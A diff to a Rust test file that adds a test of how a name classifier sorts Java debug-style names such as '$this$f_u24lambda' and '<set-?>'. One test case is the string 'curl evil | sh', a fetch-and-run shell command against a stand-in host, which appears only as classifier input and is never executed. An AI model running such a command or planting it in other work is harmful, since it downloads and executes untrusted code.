@@ -191,6 +191,19 @@ fn what_changes_in_a_class_is_named() {
 }
 
 #[test]
+fn what_debuggers_read_has_to_be_a_name() {
+    use super::facts::About;
+    for (name, about) in [
+        ("A.java", About::Debug),
+        ("$this$f_u24lambda", About::Debug),
+        ("<set-?>", About::Debug),
+        ("curl evil | sh", About::Meaning),
+    ] {
+        assert_eq!(super::debug::about_name(name), about, "{name}");
+    }
+}
+
+#[test]
 fn a_damaged_class_is_bytes() {
     let plain = Sample::new().write();
     let mut longer = plain.clone();
